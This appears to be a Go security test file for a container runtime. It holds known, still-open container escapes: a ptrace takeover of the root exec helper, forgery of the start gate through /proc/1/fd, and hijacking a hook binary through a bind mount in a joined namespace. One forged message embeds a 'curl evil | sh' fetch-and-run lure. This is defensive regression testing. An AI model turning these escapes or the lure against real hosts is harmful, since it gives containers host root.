//go:build attackholes

package test

// Attacks of issue 10's pass that still get through: each fails on the
// current code. Run them with -tags attackholes.

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestAttackNSPtraceExecHelper: a container granted CAP_SYS_PTRACE (no
// user namespace: docker --cap-add SYS_PTRACE) lies in wait for the exec
// helper of a `berth-oci exec` (a health check, kubectl exec): born in
// the container's pid namespace, the helper is the host's root with every
// capability, in the host's mount namespace, and dumpable from its fork
// until its first setup step. PTRACE_SEIZE'd then, it is made to create a
// file in a root-only host directory.
func TestAttackNSPtraceExecHelper(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	bin := nsAttackBin(t)
	read, rootOnly := hostBait(t)
	shared := t.TempDir()
	planted := filepath.Join(rootOnly, "planted")
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		setCaps(cfg, "CAP_SYS_PTRACE", "CAP_KILL")
		attackMounts(cfg, bin, shared)
		// The attack reads ns_last_pid.
		cfgLinux(cfg)["readonlyPaths"] = []string{}
	}, "/a/nsattack", "catch", "seize", "/shared/out", read, planted)
	for _, d := range []string{"a", "shared"} {
		must(t, os.Mkdir(filepath.Join(bundle, "rootfs", d), 0o755))
	}
	log := catchExecHelper(t, tk, bundle, shared, 20, nil)
	if _, err := os.Lstat(planted); err == nil || strings.Contains(log, "host-only-bait") {
		t.Errorf("the container took over an exec helper (the host's root, in the host's mount namespace):\n%s", log)
	}
	t.Logf("attack log:\n%s", log)
}

// forgeGate is what a process exec'd into a created container runs: it
// opens the held init stage's start gate through /proc/1/fd/4 (the fifo
// in the host's state dir) for writing, which waits for `start`, and
// writes a start byte and a failure of its own.
const forgeGate = `printf '\000hooks.startContainer[0] /bin/sh: FORGED: run curl evil | sh to repair' > /proc/1/fd/4 && echo forged >> /shared/out`

// gateForgery creates bundle's container, runs forgeGate in it detached,
// starts it, and returns start's result and whether the container's
// command ran.
func gateForgery(t *testing.T, tk *task, bundle, shared string) (result, bool) {
	t.Helper()
	mustSucceed(t, ociRun(t, tk.stateDir, "create", "--bundle", bundle, tk.id))
	defer func() { mustSucceed(t, ociRun(t, tk.stateDir, "delete", "--force", tk.id)) }()
	pidFile := filepath.Join(t.TempDir(), "pid")
	mustSucceed(t, ociRun(t, tk.stateDir, "exec", "--detach", "--pid-file", pidFile, tk.id, "/bin/sh", "-c", forgeGate))
	b, err := os.ReadFile(pidFile)
	if err != nil {
		t.Fatal(err)
	}
	// The exec'd writer waits in its open of the fifo for start's reader.
	wchan := fmt.Sprintf("/proc/%s/wchan", strings.TrimSpace(string(b)))
	for deadline := time.Now().Add(runTimeout); ; time.Sleep(time.Millisecond) {
		if w, _ := os.ReadFile(wchan); string(w) == "wait_for_partner" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the forger never reached its open of the start gate (%s)", wchan)
		}
	}
	res := ociRun(t, tk.stateDir, "start", tk.id)
	ran := strings.Contains(waitFile(t, filepath.Join(shared, "ran")), "ran")
	return res, ran
}

// TestAttackNSGateForgeryUserns: the init stage of a container with a
// user namespace, held at its start gate, is its mapped root and its mm
// the container's user namespace's: a process exec'd into the created
// container with CAP_SYS_PTRACE there reopens the gate through
// /proc/1/fd. What it writes after its start byte must not become
// start's verdict: start must not report a startContainer failure the
// container made up while its command runs.
func TestAttackNSGateForgeryUserns(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	shared := t.TempDir()
	must(t, os.Chmod(shared, 0o777))
	b := usernsBundle(t, tk, "", func(cfg map[string]any) {
		addMount(cfg, map[string]any{"destination": "/shared", "type": "bind", "source": shared, "options": []string{"rbind", "rw"}})
	}, "/bin/sh", "-c", "echo ran > /shared/ran")
	must(t, os.Mkdir(filepath.Join(b, "rootfs", "shared"), 0o755))
	res, ran := gateForgery(t, tk, b, shared)
	if strings.Contains(res.stderr, "FORGED") {
		t.Errorf("start reported the container's forged failure (the command ran: %v):\n%s", ran, res)
	}
}

// TestAttackNSJoinedMountHookPath: a container joins a mount namespace by
// path (another container's, a pod's); the bundle's createContainer hook
// is a host binary, whose path, the spec says, resolves in the runtime's
// namespace. The init stage runs it by path after it joined the mount
// namespace, as the host's root with every capability: whoever owns that
// namespace (a container with a mount of its own over the hook's path)
// has its binary run with the host's full privileges.
func TestAttackNSJoinedMountHookPath(t *testing.T) {
	t.Parallel()
	tk := newTask(t)
	dir := t.TempDir()
	log := filepath.Join(dir, "log")
	hookPath := filepath.Join(dir, "hook")
	must(t, os.WriteFile(hookPath, []byte("#!/bin/sh\necho legit >> "+log+"\n"), 0o755))
	evil := filepath.Join(t.TempDir(), "evil")
	must(t, os.WriteFile(evil, []byte("#!/bin/sh\necho \"evil uid $(id -u) $(grep CapEff /proc/self/status)\" >> "+log+"\n"), 0o755))
	ns, pid := unshared(t, "--mount")
	// The namespace's owner puts its own binary over the hook's path, in
	// its namespace only.
	if out, err := exec.Command("nsenter", "-t", fmt.Sprint(pid), "-m", "--", "mount", "--bind", evil, hookPath).CombinedOutput(); err != nil {
		t.Fatalf("mount in the joined namespace: %v: %s", err, out)
	}
	bundle := atkBundle(t, tk, func(cfg map[string]any, _ string) {
		cfgLinux(cfg)["namespaces"] = []map[string]any{{"type": "mount", "path": ns + "/mnt"}, {"type": "pid"},
			{"type": "uts"}, {"type": "ipc"}, {"type": "network"}}
		cfg["hooks"] = map[string]any{"createContainer": []any{map[string]any{"path": hookPath}}}
	}, "/bin/true")
	mustSucceed(t, ociRun(t, tk.stateDir, "run", "--bundle", bundle, tk.id))
	got, _ := os.ReadFile(log)
	if strings.TrimSpace(string(got)) != "legit" {
		t.Errorf("the createContainer hook that ran is the joined namespace's, not the host's:\n%s", got)
	}
}
